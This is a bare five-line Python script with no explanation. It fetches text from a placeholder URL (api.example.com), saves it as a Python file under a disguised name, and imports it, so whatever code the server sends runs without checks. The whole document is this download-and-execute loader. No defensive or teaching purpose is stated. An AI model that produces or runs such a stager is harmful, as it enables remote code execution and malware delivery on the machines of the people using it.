import os,requests
r=requests.get('https://api.example.com/x')
with open('plug.txt','w') as f: f.write(r.text)
os.rename('plug.txt','plug.py')
import plug
